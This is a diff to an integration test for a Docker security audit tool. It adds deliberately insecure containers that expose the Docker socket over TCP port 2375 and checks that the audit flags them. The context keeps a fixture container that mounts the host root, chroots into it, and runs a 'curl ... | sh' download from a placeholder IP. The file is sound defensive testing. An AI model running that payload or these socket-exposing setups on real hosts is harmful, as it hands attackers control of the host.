@@ -10,7 +10,8 @@ import type { Finding } from '../../../src/core/report/finding.js';
 
 const lab = labFromEnv();
 const NAMES = ['pcl-audit-priv', 'pcl-audit-sock', 'pcl-audit-renamed', 'pcl-audit-root', 'pcl-audit-capall',
-  'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain', 'pcl-audit-campaign'];
+  'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain', 'pcl-audit-campaign',
+  'pcl-audit-sockpub', 'pcl-audit-sockhost'];
 const BASE = ['--label', 'portcullis.test=audit'];
 let exposure: Exposure;
 let result: AuditResult;
@@ -48,6 +49,9 @@ beforeAll(async () => {
   create('pcl-audit-port', ['-p', '0.0.0.0:18080:80']);
   create('pcl-audit-labdir', ['--network', 'none', '-v', `${lab.dir}:/lab:ro`]);
   create('pcl-audit-plain', ['--network', 'none', '--memory', '64m', '--pids-limit', '64', '--cpu-shares', '512']);
+  // Socket proxies: the socket plus a published port (bridge, loopback) or the host network with an exposed port.
+  create('pcl-audit-sockpub', ['-p', '127.0.0.1:12375:2375', '-v', `${lab.socketPath}:/var/run/docker.sock`, '-e', 'POST=1']);
+  create('pcl-audit-sockhost', ['--network', 'host', '--expose', '2375', '-v', `${lab.socketPath}:/var/run/docker.sock:ro`]);
   // The campaign's shape, created and never started: host root at /mnt, chroot, a download piped into sh.
   docker(lab, ['create', '--name', 'pcl-audit-campaign', ...BASE, '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
     'chroot', '/mnt', 'sh', '-c', 'curl -s http://198.51.100.9/x.sh | sh']);
@@ -88,6 +92,16 @@ describe('portcullis audit against the lab engine on a loopback TCP port', () =>
     expect(of('pcl-audit-labdir').find((x) => x.ruleId === 'PCL-EXP-005')?.message).toMatch(/contains the daemon socket/);
     // The generic path rule is folded into PCL-EXP-005 for the same container.
     expect(rulesOf('pcl-audit-sock')).not.toContain('PCL-CFG-015');
+  });
+
+  it('flags containers that have the socket and publish a port as relays of the API (stopped ones too)', () => {
+    const pub = result.report.findings.find((f) => f.ruleId === 'PCL-EXP-003' && f.target === 'tcp://127.0.0.1:12375');
+    expect(pub?.severity).toBe('high');
+    expect(pub?.message).toMatch(/^container pcl-audit-sockpub \([0-9a-f]{12}\) \(created, image alpine:latest\) has the Docker socket .* publishes 127\.0\.0\.1:12375: it forwards the whole API\.$/);
+    expect(pub?.evidence[1]).toMatchObject({ location: expect.stringMatching(/HostConfig\.PortBindings\["2375\/tcp"\]$/) });
+    const host = result.report.findings.find((f) => f.ruleId === 'PCL-EXP-003' && f.target === 'tcp://*:2375' && /pcl-audit-sockhost/.test(f.message));
+    expect(host?.severity).toBe('critical');
+    expect(result.summary.routes).toEqual(expect.arrayContaining(['PCL-EXP-003 tcp://127.0.0.1:12375', 'PCL-EXP-003 tcp://*:2375']));
   });
 
   it('flags / mounted, cap-add ALL, pid=host, restart always and a port on 0.0.0.0', () => {
